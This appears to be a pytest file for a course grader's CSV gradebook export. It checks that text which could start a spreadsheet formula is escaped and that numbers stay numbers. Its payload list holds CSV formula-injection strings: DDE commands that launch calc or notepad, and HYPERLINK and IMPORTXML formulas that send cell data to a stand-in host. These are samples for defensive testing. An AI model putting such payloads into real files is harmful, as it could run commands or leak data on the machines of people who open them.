"""What spreadsheets get: no text is a formula, numbers stay numbers."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from sqlalchemy.orm import Session

from grader.domain.problem import Course
from grader.services.exporting import csv_text, gradebook_export, harmless
from grader.services.gradebook import gradebook
from grader.services.policies import publish_policy
from tests.services.people import add_person
from tests.support.courses import COURSE

NOW = datetime(2026, 3, 9, 12, tzinfo=UTC)
STARTS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
PAYLOADS = [
    *(f"{start}{rest}" for start in STARTS for rest in ("", "1", "cmd|' /C calc'!A0")),
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
    "=DDE(0;0;1)",
    "-2+3+cmd|' /C notepad'!'A1'",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+1234567",
    "-ada",
    "=1,2",
    '="a"\n=2',
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_there_are_at_least_forty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_starts_a_formula_when_it_is_read_back(payload: str) -> None:
    (head, row) = read_back(csv_text([payload, "points"], [[payload, Decimal(-5)]]))
    assert head == [f"'{payload}", "points"]
    assert row == [f"'{payload}", "-5"]


@pytest.mark.parametrize("text", ["Ada", "O'Neil", "a=b", " =1", "0012345", 'Zoë, Ada "A"', ""])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert read_back(csv_text(["x", "y"], [[text, "."]]))[1] == [text, "."]


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (Decimal("-2.50"), "-2.5"),
        (Decimal("1E+2"), "100"),
        (Decimal("0.00001"), "0.00001"),
        (Decimal(0), "0"),
        (-3, "-3"),
        (None, ""),
    ],
)
def test_numbers_stay_numbers(number: Decimal | int | None, written: str) -> None:
    assert read_back(csv_text(["x", "y"], [[number, "."]]))[1] == [written, "."]


def enrol(session: Session, course: Course, *names: str) -> None:
    for assignment in course.assignments:
        publish_policy(
            session, course=course, assignment=assignment, actor="op", now=NOW, activate=False
        )
    for place, name in enumerate(names):
        add_person(session, f"login{place}", name=name, section=name[:20], sis_user_id=f"00{place}")
    session.flush()


def test_the_gradebook_has_a_column_for_each_part_and_the_totals(session: Session) -> None:
    enrol(session, COURSE, "Ada")
    export = gradebook_export(gradebook(session, course=COURSE, assignment="set"))
    assert export.columns == (
        *("login", "name", "section", "sis_user_id"),
        *("set/sum/a", "set/sum/b", "set/last/a", "set/last/b2"),
        *("total", "possible", "late_days"),
    )
    (row,) = export.rows
    assert row == ("login0", "Ada", "Ada", "000", *[Decimal(0)] * 5, Decimal(10), 0)
    assert read_back(export.csv)[1] == ["login0", "Ada", "Ada", "000", *"00000", "10", "0"]


def test_no_column_of_the_gradebook_lets_a_formula_through(session: Session) -> None:
    payloads = [p for p in PAYLOADS if "\n" not in p and "\r" not in p]
    enrol(session, COURSE, *payloads)
    export = gradebook_export(gradebook(session, course=COURSE, assignment="set"))
    rows = read_back(export.csv)[1:]
    assert len(rows) == len(payloads)
    assert not [cell for row in rows for cell in row if cell.startswith(tuple(STARTS))]
    assert {row[1] for row in rows} == {f"'{payload}" for payload in payloads}
